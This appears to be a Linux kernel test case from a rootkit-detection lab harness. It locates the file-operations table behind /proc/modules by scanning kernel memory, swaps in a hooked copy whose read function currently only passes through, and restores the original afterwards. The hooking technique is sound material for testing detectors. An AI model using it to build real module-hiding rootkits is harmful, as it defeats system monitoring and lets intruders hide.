// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * The entry /proc/modules is made to lead to a table of the module, as by rootkits that hide
 * modules: the kernel's own table stays as it was.
 */
#define ATTACK_PREPARES
#include "attack.h"

#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/proc_fs.h>

/* struct proc_dir_entry and struct proc_inode are private to fs/proc; neither is longer. */
#define LONGEST 64

static const struct proc_ops **place;
static const struct proc_ops *original;
static struct proc_ops ours;

static ssize_t lies(struct file *file, char __user *to, size_t length, loff_t *offset)
{
	return original->proc_read(file, to, length, offset);
}

/* The word of an object that has this value. */
static unsigned long *word(unsigned long *object, unsigned long value)
{
	unsigned long seen, *at;

	for (at = object; at < object + LONGEST; at++)
		if (!get_kernel_nofault(seen, at) && seen == value)
			return at;
	return NULL;
}

static int prepare(void)
{
	unsigned long *own, *table, *at, *inode, modules = symbol("modules_proc_ops");
	struct proc_dir_entry *entry;
	struct file *file;

	/* An entry of our own tells where an entry keeps its table. */
	entry = proc_create("ringfence_lab", 0, NULL, &ours);
	if (!entry || !modules)
		return -ENOENT;
	own = (unsigned long *)entry;
	table = word(own, (unsigned long)&ours);
	proc_remove(entry);
	file = filp_open("/proc/modules", O_RDONLY, 0);
	if (!table || IS_ERR(file))
		return -ENOENT;
	/* What leads to the entry lies before the inode. */
	inode = (unsigned long *)file_inode(file);
	for (at = inode - LONGEST; at < inode && !place; at++) {
		unsigned long seen, *candidate = (unsigned long *)*at + (table - own);

		if (!get_kernel_nofault(seen, candidate) && seen == modules)
			place = (const struct proc_ops **)candidate;
	}
	filp_close(file, NULL);
	return place ? 0 : -ENOENT;
}

static int attack(void)
{
	original = *place;
	ours = *original;
	ours.proc_read = lies;
	WRITE_ONCE(*place, &ours);
	return 0;
}

static void undo(void)
{
	WRITE_ONCE(*place, original);
	/* Whoever reads through it at this moment is through by then. */
	msleep(200);
}

ATTACK("operations of /proc/modules replaced");
